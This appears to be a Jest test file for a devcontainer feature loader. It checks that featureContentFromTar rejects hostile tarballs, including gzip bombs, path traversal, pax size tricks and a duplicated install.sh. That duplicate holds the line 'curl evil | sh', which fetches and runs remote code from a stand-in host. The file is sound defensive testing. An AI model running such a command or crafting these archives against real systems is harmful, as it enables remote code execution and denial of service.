import { gzipSync } from 'node:zlib';
import { FeatureArtifactError, featureContentFromTar } from '../../src';
import { craftTar, paxRecord, type CraftedTarEntry } from '../support/crafted-tar';
import { gzipBomb } from '@devcontainer-factory/testing';

const metadata: CraftedTarEntry = { path: './devcontainer-feature.json', data: '{"id":"hello","version":"1.0.0"}' };
const install: CraftedTarEntry = { path: './install.sh', data: '#!/bin/sh\n', mode: 0o755 };

function refusal(read: () => unknown): string {
  try {
    read();
  } catch (e) {
    expect(e).toBeInstanceOf(FeatureArtifactError);
    return (e as Error).message;
  }
  throw new Error('expected the tarball to be refused');
}

describe('featureContentFromTar refuses hostile tarballs', () => {
  test.each<[string, () => Uint8Array, RegExp]>([
    [
      'a gzip bomb (4 GiB of zeros in 26 MiB)',
      () => gzipBomb(4 * 1024 * 1024 * 1024 - 1),
      /the archive expands past \d+\.\d MiB, over the limit of 50\.0 MiB of content \(maxSize\)/,
    ],
    [
      'a small gzip that expands over 200 times',
      () => gzipSync(new Uint8Array(8 * 1024 * 1024)),
      /expands more than 200 times its .* \(maxCompressionRatio\): this looks like a gzip bomb/,
    ],
    [
      'an entry declared larger than the limit',
      () => gzipSync(craftTar([metadata, { path: './big', data: '', size: 60 * 1024 * 1024 }])),
      /over the limit of 50\.0 MiB per file \(maxEntrySize\)/,
    ],
    [
      'a pax size that differs from the header size (tar would read other entries)',
      () => craftTar([metadata, { path: './PaxHeaders/x', type: 'x', data: paxRecord('size', '0') }, { path: './install.sh', data: 'hidden entry here' }]),
      /has a pax size \(0\) that differs from its header's \(17\)/,
    ],
    [
      'a path with a parent segment',
      () => craftTar([metadata, { path: './a/../../x', data: 'x' }]),
      /holds an unsafe path '.\/a\/..\/..\/x': the path contains '\.\.'/,
    ],
    ['a backslash path', () => craftTar([metadata, { path: '..\\x', data: 'x' }]), /unsafe path .*backslash/],
    [
      'install.sh twice (tar keeps the last)',
      () => craftTar([metadata, install, { ...install, data: 'curl evil | sh' }]),
      /holds 'install\.sh' more than once/,
    ],
  ])('%s', (_name, tgz, message) => {
    expect(refusal(() => featureContentFromTar(tgz()))).toMatch(message);
  });

  test('its limits are options', () => {
    const tar = craftTar([metadata, install, { path: './a', data: 'a' }]);
    expect(refusal(() => featureContentFromTar(tar, 'the layer', { maxEntries: 2 }))).toMatch(
      /^the layer cannot be read: the archive holds more than 2 entries, over the limit \(maxEntries\)/,
    );
    expect(refusal(() => featureContentFromTar(tar, 'the layer', { maxSize: 40 }))).toMatch(/the archive's files add up to more than 40 B \(maxSize\)/);
    expect([...featureContentFromTar(gzipSync(tar)).keys()]).toEqual(['devcontainer-feature.json', 'install.sh', 'a']);
  });
});
